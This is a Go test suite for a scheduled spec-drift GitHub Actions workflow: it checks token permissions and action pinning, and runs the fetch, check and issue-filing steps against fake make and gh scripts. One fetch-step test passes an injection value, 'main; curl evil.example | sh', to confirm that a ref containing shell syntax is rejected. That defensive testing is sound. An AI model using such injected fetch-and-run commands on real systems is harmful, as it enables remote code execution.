package main

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"
)

// The scheduled drift workflow is mostly shell around make spec-fetch, make
// spec-check and the gh CLI. These tests run its steps' scripts with stand-ins
// for make and gh, and check what it may do with its token.

type workflowStep struct {
	Name string            `yaml:"name"`
	ID   string            `yaml:"id"`
	Uses string            `yaml:"uses"`
	Run  string            `yaml:"run"`
	Env  map[string]string `yaml:"env"`
}

type workflowJob struct {
	Permissions yaml.Node      `yaml:"permissions"`
	If          string         `yaml:"if"`
	Steps       []workflowStep `yaml:"steps"`
}

type workflowFile struct {
	On          map[string]yaml.Node   `yaml:"on"`
	Permissions yaml.Node              `yaml:"permissions"`
	Jobs        map[string]workflowJob `yaml:"jobs"`
}

func loadDriftWorkflow(t *testing.T) workflowFile {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(repoRoot(t), ".github", "workflows", "spec-drift.yml"))
	if err != nil {
		t.Fatal(err)
	}
	var w workflowFile
	if err := yaml.Unmarshal(data, &w); err != nil {
		t.Fatal(err)
	}
	return w
}

func (w workflowFile) step(t *testing.T, job, name string) workflowStep {
	t.Helper()
	for _, s := range w.Jobs[job].Steps {
		if s.Name == name {
			return s
		}
	}
	t.Fatalf("job %s has no step %q", job, name)
	return workflowStep{}
}

// permissions reads a permissions block; absent is nil, which GitHub reads
// as the repository's default grant.
func permissions(t *testing.T, n yaml.Node) map[string]string {
	t.Helper()
	if n.Kind == 0 {
		return nil
	}
	m := map[string]string{}
	if err := n.Decode(&m); err != nil {
		t.Fatal(err)
	}
	return m
}

var pinnedSHA = regexp.MustCompile(`@[0-9a-f]{40}$`)

func TestDriftWorkflowTokenAndActions(t *testing.T) {
	w := loadDriftWorkflow(t)
	if _, ok := w.On["schedule"]; !ok {
		t.Error("the workflow has no schedule")
	}
	if d, ok := w.On["workflow_dispatch"]; !ok || !strings.Contains(nodeText(t, d), "ref") {
		t.Error("the workflow cannot be run by hand with an upstream ref")
	}
	if p := permissions(t, w.Permissions); p == nil || len(p) != 0 {
		t.Errorf("workflow permissions %v, want none by default ({})", p)
	}
	want := map[string]map[string]string{
		"check": {"contents": "read"},
		"issue": {"issues": "write"},
	}
	if len(w.Jobs) != len(want) {
		t.Errorf("jobs %d, want %d: a new job needs its permissions checked here", len(w.Jobs), len(want))
	}
	for name, job := range w.Jobs {
		if got := permissions(t, job.Permissions); got == nil || !maps.Equal(got, want[name]) {
			t.Errorf("job %s: permissions %v, want %v", name, got, want[name])
		}
		for _, s := range job.Steps {
			// GitHub's own actions by version, as every workflow here; any
			// other action only pinned to a reviewed commit.
			if s.Uses != "" && !strings.HasPrefix(s.Uses, "actions/") && !pinnedSHA.MatchString(s.Uses) {
				t.Errorf("job %s uses %s, not pinned to a commit", name, s.Uses)
			}
			if s.Uses != "" && name == "issue" {
				t.Errorf("the job that can write issues runs the action %s", s.Uses)
			}
		}
	}
}

func nodeText(t *testing.T, n yaml.Node) string {
	t.Helper()
	out, err := yaml.Marshal(&n)
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}

// stand-ins: each logs its arguments, one line per call, to $FAKE_LOG.
const (
	// fakeMake prints $FAKE_STDOUT (a file) and exits with $FAKE_EXIT.
	fakeMake = `#!/usr/bin/env bash
printf '%s\n' "$*" >> "$FAKE_LOG"
if [ -n "${FAKE_STDOUT:-}" ]; then cat "$FAKE_STDOUT"; fi
exit "${FAKE_EXIT:-0}"
`
	// fakeGH knows one open issue, $FAKE_OPEN (empty: none), whose body
	// is the file $FAKE_BODY.
	fakeGH = `#!/usr/bin/env bash
printf '%s\n' "$*" >> "$FAKE_LOG"
case "$1 $2" in
  "issue list") [ -z "$FAKE_OPEN" ] || echo "$FAKE_OPEN" ;;
  "issue view") cat "$FAKE_BODY" ;;
esac
`
)

type stepRun struct {
	dir     string
	code    int
	output  string // combined stdout and stderr
	calls   []string
	outputs map[string]string // $GITHUB_OUTPUT
	summary string            // $GITHUB_STEP_SUMMARY
}

// runStep runs a step's script as GitHub's default shell does (bash -e), in
// a new directory, with make and gh replaced and the given environment.
func runStep(t *testing.T, s workflowStep, env map[string]string) stepRun {
	t.Helper()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash not installed")
	}
	dir := t.TempDir()
	bin := filepath.Join(dir, "bin")
	writeFile(t, filepath.Join(bin, "make"), []byte(fakeMake))
	writeFile(t, filepath.Join(bin, "gh"), []byte(fakeGH))
	for _, name := range []string{"make", "gh"} {
		if err := os.Chmod(filepath.Join(bin, name), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	work := filepath.Join(dir, "work")
	writeFile(t, filepath.Join(work, "script.sh"), []byte(s.Run))
	r := stepRun{dir: work, outputs: map[string]string{}}
	files := map[string]string{
		"FAKE_LOG":            filepath.Join(dir, "calls"),
		"GITHUB_OUTPUT":       filepath.Join(dir, "output"),
		"GITHUB_STEP_SUMMARY": filepath.Join(dir, "summary"),
	}
	for _, f := range files {
		writeFile(t, f, nil)
	}
	cmd := exec.Command(bash, "-e", "script.sh")
	cmd.Dir = work
	cmd.Env = []string{"PATH=" + bin + string(os.PathListSeparator) + os.Getenv("PATH"), "HOME=" + dir, "FAKE_OPEN="}
	for k, v := range files {
		cmd.Env = append(cmd.Env, k+"="+v)
	}
	for k, v := range env {
		cmd.Env = append(cmd.Env, k+"="+v)
	}
	out, err := cmd.CombinedOutput()
	r.output = string(out)
	var exit *exec.ExitError
	if errors.As(err, &exit) {
		r.code = exit.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	calls, _ := os.ReadFile(files["FAKE_LOG"])
	r.calls = strings.Split(strings.TrimSpace(string(calls)), "\n")
	if r.calls[0] == "" {
		r.calls = nil
	}
	summary, _ := os.ReadFile(files["GITHUB_STEP_SUMMARY"])
	r.summary = string(summary)
	r.outputs = parseOutputs(t, files["GITHUB_OUTPUT"])
	return r
}

// parseOutputs reads $GITHUB_OUTPUT: name=value lines and
// name<<DELIMITER blocks.
func parseOutputs(t *testing.T, path string) map[string]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	out := map[string]string{}
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := sc.Text()
		if name, delim, ok := strings.Cut(line, "<<"); ok {
			var lines []string
			for sc.Scan() && sc.Text() != delim {
				lines = append(lines, sc.Text())
			}
			out[name] = strings.Join(lines, "\n")
			continue
		}
		name, value, _ := strings.Cut(line, "=")
		out[name] = value
	}
	return out
}

func TestDriftWorkflowFetchStep(t *testing.T) {
	step := loadDriftWorkflow(t).step(t, "check", "download upstream's document")
	path := "/repo/.cache/upstream/openapi-f85dbe2c0123.yaml"
	stdout := filepath.Join(t.TempDir(), "stdout")
	writeFile(t, stdout, []byte(path+"\n"))

	r := runStep(t, step, map[string]string{"REF": "", "FAKE_STDOUT": stdout})
	if r.code != 0 || r.outputs["path"] != path || r.outputs["commit"] != "f85dbe2c0123" {
		t.Errorf("exit %d, outputs %v:\n%s", r.code, r.outputs, r.output)
	}
	if len(r.calls) != 1 || r.calls[0] != "-s spec-fetch REF=" {
		t.Errorf("make calls %q", r.calls)
	}

	r = runStep(t, step, map[string]string{"REF": "main; curl evil.example | sh"})
	if r.code == 0 || len(r.calls) != 0 || strings.Contains(r.output, "evil") {
		t.Errorf("a ref with shell syntax: exit %d, calls %q, output %s", r.code, r.calls, r.output)
	}

	r = runStep(t, step, map[string]string{"REF": "", "FAKE_EXIT": "2"})
	if r.code == 0 || r.outputs["path"] != "" {
		t.Errorf("a failed download: exit %d, outputs %v", r.code, r.outputs)
	}
}

func TestDriftWorkflowCheckStep(t *testing.T) {
	step := loadDriftWorkflow(t).step(t, "check", "make spec-check FORMAT=markdown")
	env := func(report string, exit string) map[string]string {
		stdout := filepath.Join(t.TempDir(), "report.md")
		writeFile(t, stdout, []byte(report))
		return map[string]string{"UPSTREAM": "/cache/openapi-f85dbe2c0123.yaml", "COMMIT": "f85dbe2c0123", "REF": "", "FAKE_STDOUT": stdout, "FAKE_EXIT": exit}
	}
	drift := "## Spec drift: `openapi/certificates.yaml` against upstream `openapi-f85dbe2c0123.yaml`\n\n" +
		"**FAIL: 1 unexpected (1 new upstream); 98 expected.**\n\n| a | b |\n| --- | --- |\n| REPORT_0000 | x |\n"
	tests := []struct {
		name, report, exit, status string
	}{
		{"clean", "## Spec drift: x\n\n**OK: the fragment differs from upstream only as the allow-list says (98 expected differences).**\n", "0", "clean"},
		{"drift", drift, "2", "drift"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := runStep(t, step, env(tt.report, tt.exit))
			if r.code != 0 || r.outputs["status"] != tt.status {
				t.Fatalf("exit %d, status %q, want %q:\n%s", r.code, r.outputs["status"], tt.status, r.output)
			}
			if r.outputs["report"] != strings.TrimSuffix(tt.report, "\n") {
				t.Errorf("report output %q, want the report", r.outputs["report"])
			}
			if !strings.Contains(r.summary, tt.report) || !strings.Contains(r.summary, "openai/openai-openapi@f85dbe2c0123") {
				t.Errorf("summary lacks the report or the commit:\n%s", r.summary)
			}
			if len(r.calls) != 1 || r.calls[0] != "-s spec-check UPSTREAM=/cache/openapi-f85dbe2c0123.yaml FORMAT=markdown" {
				t.Errorf("make calls %q", r.calls)
			}
		})
	}
	t.Run("no comparison", func(t *testing.T) {
		r := runStep(t, step, env("", "2"))
		if r.code == 0 || r.outputs["status"] != "" {
			t.Errorf("exit %d, outputs %v: a run that could not compare must fail", r.code, r.outputs)
		}
	})
}

func TestDriftWorkflowIssueStep(t *testing.T) {
	step := loadDriftWorkflow(t).step(t, "issue", "file the report")
	report := "## Spec drift: `openapi/certificates.yaml` against upstream `openapi-f85dbe2c0123.yaml`\n\n**FAIL: 8 unexpected (4 that break or change the client, 4 new upstream); 98 expected.**\n"
	title := "Spec drift: 8 unexpected differences from openai/openai-openapi@f85dbe2c0123"
	// marker is what an issue filed with report holds.
	sum := sha256.Sum256([]byte(report))
	marker := "<!-- spec-drift-report " + hex.EncodeToString(sum[:])[:16] + " -->"
	env := func(status, report, open, body string) map[string]string {
		bodyFile := filepath.Join(t.TempDir(), "body")
		writeFile(t, bodyFile, []byte(body))
		return map[string]string{
			"STATUS": status, "COMMIT": "f85dbe2c0123", "REPORT": report, "RUN_URL": "https://github.com/o/r/actions/runs/1",
			"GH_REPO": "o/r", "FAKE_OPEN": open, "FAKE_BODY": bodyFile,
		}
	}
	list := "issue list --state open --label spec-drift --limit 1 --json number --jq .[0].number // empty"

	t.Run("drift opens an issue", func(t *testing.T) {
		r := runStep(t, step, env("drift", report, "", ""))
		want := []string{list, "label create spec-drift --color D93F0B --description openapi/certificates.yaml differs from upstream --force",
			"issue create --title " + title + " --label spec-drift --body-file body.md"}
		if r.code != 0 || strings.Join(r.calls, "\n") != strings.Join(want, "\n") {
			t.Fatalf("exit %d, gh calls:\n%s\nwant:\n%s\n%s", r.code, strings.Join(r.calls, "\n"), strings.Join(want, "\n"), r.output)
		}
		body, err := os.ReadFile(filepath.Join(r.dir, "body.md"))
		if err != nil {
			t.Fatal(err)
		}
		for _, w := range []string{report, marker, "[openai/openai-openapi@f85dbe2c0123](https://github.com/openai/openai-openapi/blob/f85dbe2c0123/openapi.yaml)", "When the upstream spec changes"} {
			if !strings.Contains(string(body), w) {
				t.Errorf("issue body lacks %q:\n%s", w, body)
			}
		}
	})
	t.Run("the same drift updates quietly", func(t *testing.T) {
		r := runStep(t, step, env("drift", report, "7", "old text\n"+marker+"\n"))
		want := []string{list, "issue view 7 --json body --jq .body", "issue edit 7 --title " + title + " --body-file body.md"}
		if r.code != 0 || strings.Join(r.calls, "\n") != strings.Join(want, "\n") {
			t.Errorf("exit %d, gh calls:\n%s\nwant:\n%s\n%s", r.code, strings.Join(r.calls, "\n"), strings.Join(want, "\n"), r.output)
		}
	})
	t.Run("new drift updates and comments", func(t *testing.T) {
		r := runStep(t, step, env("drift", report+"| more |\n", "7", "old text\n"+marker+"\n"))
		if r.code != 0 || len(r.calls) != 4 || !strings.HasPrefix(r.calls[3], "issue comment 7 --body The differences changed") {
			t.Errorf("exit %d, gh calls:\n%s\n%s", r.code, strings.Join(r.calls, "\n"), r.output)
		}
	})
	t.Run("clean closes the open issue", func(t *testing.T) {
		r := runStep(t, step, env("clean", "**OK: ...**", "7", ""))
		if r.code != 0 || len(r.calls) != 2 || !strings.HasPrefix(r.calls[1], "issue close 7 --comment The check against [openai/openai-openapi@f85dbe2c0123]") {
			t.Errorf("exit %d, gh calls:\n%s\n%s", r.code, strings.Join(r.calls, "\n"), r.output)
		}
	})
	t.Run("clean without an issue does nothing", func(t *testing.T) {
		r := runStep(t, step, env("clean", "**OK: ...**", "", ""))
		if r.code != 0 || len(r.calls) != 1 {
			t.Errorf("exit %d, gh calls:\n%s\n%s", r.code, strings.Join(r.calls, "\n"), r.output)
		}
	})
	t.Run("a long report fits an issue", func(t *testing.T) {
		long := report + strings.Repeat("| `GET /organization/certificates` | breaking | a difference |\n", 1500)
		r := runStep(t, step, env("drift", long, "", ""))
		body, err := os.ReadFile(filepath.Join(r.dir, "body.md"))
		if r.code != 0 || err != nil || len(body) > 65536 || !strings.Contains(string(body), "cut short") {
			t.Errorf("exit %d, body %d bytes (err %v), want at most 65536 and a note:\n%s", r.code, len(body), err, r.output)
		}
	})
	t.Run("no status from the check fails", func(t *testing.T) {
		if r := runStep(t, step, env("", "", "", "")); r.code == 0 {
			t.Errorf("exit 0 for an empty status; gh calls %q", r.calls)
		}
	})
}
